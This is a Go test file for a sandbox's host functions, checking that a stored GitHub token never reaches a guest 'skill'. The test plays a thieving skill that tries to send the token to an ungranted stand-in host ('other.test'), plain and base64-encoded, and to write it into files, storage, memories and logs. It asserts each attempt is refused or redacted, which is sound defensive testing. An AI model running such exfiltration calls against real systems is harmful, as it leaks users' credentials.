package hostfns_test

import (
	"context"
	"encoding/base64"
	"encoding/binary"
	"encoding/json"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/buddy-run/buddy/hostfns"
	"github.com/buddy-run/buddy/hostfns/allow"
	buddyhttp "github.com/buddy-run/buddy/hostfns/http"
	"github.com/buddy-run/buddy/internal/base/errs"
	"github.com/buddy-run/buddy/internal/secrets"
	"github.com/buddy-run/buddy/internal/store"
)

const token = "ghp_HostFunctionsNeverHandThisOut42"

type loopback struct{}

func (loopback) LookupIPAddr(context.Context, string) ([]net.IPAddr, error) {
	return []net.IPAddr{{IP: net.IPv4(127, 0, 0, 1)}}, nil
}

// secretHarness is every host function granted, buddy's secret store
// holding the token github, the credential github granted for a loopback
// "api.github.com" that echoes what it gets, and "other.test" allowed but
// not granted the credential.
func secretHarness(t *testing.T) (*harness, *store.Store, string, string) {
	t.Helper()
	echo := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		io.WriteString(w, r.Method+" auth="+r.Header.Get("Authorization")+" b64="+
			base64.StdEncoding.EncodeToString([]byte(r.Header.Get("Authorization")))+" body="+string(body))
	}))
	t.Cleanup(echo.Close)
	port := echo.URL[strings.LastIndexByte(echo.URL, ':')+1:]
	sec, err := secrets.Open(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	if err := sec.Set(t.Context(), "github", []byte(token)); err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	st, err := store.Open(t.Context(), filepath.Join(t.TempDir(), "buddy.db"), store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close(context.Background()) })
	operator := []string{"api.github.com", "other.test"}
	g := hostfns.Grants{
		Read: []string{dir}, Write: []string{dir}, Domains: allow.Intersect([]string{"*"}, operator),
		Env: []string{"GITHUB_TOKEN"}, Namespace: "skill:thief",
		Credentials: []buddyhttp.Credential{{Name: "github", Hosts: allow.Intersect([]string{"api.github.com"}, operator), As: "bearer"}},
	}
	d := hostfns.Deps{KV: st, Memories: st, Resolver: loopback{}, Secrets: sec,
		Getenv: func(string) (string, bool) { return token, true }}
	return newHarness(t, g, d), st, dir, port
}

// requestArgs is http_request's input to hostcall.wasm: the request JSON,
// then the body.
func requestArgs(method, url string, headers map[string]string, body string) []string {
	req, _ := json.Marshal(map[string]any{"method": method, "url": url, "headers": headers})
	return []string{string(req), body}
}

// TestSecretsNeverReachTheGuest: whatever a skill reads, the token is not
// in it; whatever it writes, the token is not stored.
func TestSecretsNeverReachTheGuest(t *testing.T) {
	h, st, dir, port := secretHarness(t)
	hide := func(what string, b []byte) {
		t.Helper()
		if strings.Contains(string(b), token) || strings.Contains(string(b), base64.StdEncoding.EncodeToString([]byte("Bearer "+token))) {
			t.Errorf("%s hands the token to the guest: %q", what, b)
		}
	}

	// The granted call works, and its echo is redacted.
	stt, payload := h.call("http_request", requestArgs("POST", "http://api.github.com:"+port+"/repos/a/b/issues",
		map[string]string{"Content-Type": "application/json"}, `{"title":"t"}`)...)
	if stt != errs.StatusOK {
		t.Fatalf("http_request: %v %s", stt, payload)
	}
	n := binary.LittleEndian.Uint32(payload[2:])
	body := string(payload[6+n:])
	if !strings.HasPrefix(body, "POST auth=Bearer [secret:github] b64=") || !strings.HasSuffix(body, `[secret:github] body={"title":"t"}`) {
		t.Errorf("echo %q", body)
	}
	hide("http_request", payload)

	// The token, which a skill could only have guessed, to a host it is
	// not granted for: refused, naming the credential.
	stt, msg := h.call("http_request", requestArgs("GET", "http://other.test:"+port+"/?t="+token, nil, "")...)
	if stt != errs.StatusForbidden || !strings.Contains(string(msg), `secret "github"`) {
		t.Errorf("leak to other.test: %v %s", stt, msg)
	}
	hide("a refused request's error", msg)
	stt, msg = h.call("http_get", "http://other.test:"+port+"/"+base64.StdEncoding.EncodeToString([]byte(token)))
	if stt != errs.StatusForbidden {
		t.Errorf("encoded leak through http_get: %v %s", stt, msg)
	}

	os.WriteFile(filepath.Join(dir, "notes.txt"), []byte("my token is "+token), 0o600)
	stt, got := h.call("fs_read", "notes.txt")
	if stt != errs.StatusOK || string(got) != "my token is [secret:github]" {
		t.Errorf("fs_read: %v %q", stt, got)
	}
	stt, got = h.call("env_get", "GITHUB_TOKEN")
	if stt != errs.StatusOK || string(got) != "[secret:github]" {
		t.Errorf("env_get: %v %q", stt, got)
	}

	if stt, msg := h.call("fs_write", "out.txt", "stolen: "+token); stt != errs.StatusOK {
		t.Fatalf("fs_write: %v %s", stt, msg)
	}
	if b, _ := os.ReadFile(filepath.Join(dir, "out.txt")); string(b) != "stolen: [secret:github]" {
		t.Errorf("written %q", b)
	}
	if stt, _ := h.call("fs_write", "x-"+token+".txt", "a"); stt != errs.StatusForbidden {
		t.Errorf("a path holding the token: %v", stt)
	}
	if stt, _ := h.call("kv_set", "k", "v="+token); stt != errs.StatusOK {
		t.Fatal(stt)
	}
	if v, err := st.KVGet(t.Context(), "skill:thief", "k"); err != nil || string(v) != "v=[secret:github]" {
		t.Errorf("kv value stored %q, %v", v, err)
	}
	stt, _ = h.call("memory_remember", `{"text":"remember `+token+`","tags":["`+token+`"]}`)
	if stt != errs.StatusOK {
		t.Fatal(stt)
	}
	_, got = h.call("memory_recall", `{"query":"remember"}`)
	hide("memory_recall", got)
	if !strings.Contains(string(got), "remember [secret:github]") {
		t.Errorf("recall %s", got)
	}
	if _, err := h.mod.CallExport(t.Context(), "log", []byte("\x02leaking "+token)); err != nil {
		t.Fatal(err)
	}
	for _, l := range h.logs.lines {
		hide("a log line", []byte(l))
	}
	if !strings.Contains(strings.Join(h.logs.lines, "\n"), "leaking [secret:github]") {
		t.Errorf("logs %q", h.logs.lines)
	}
}
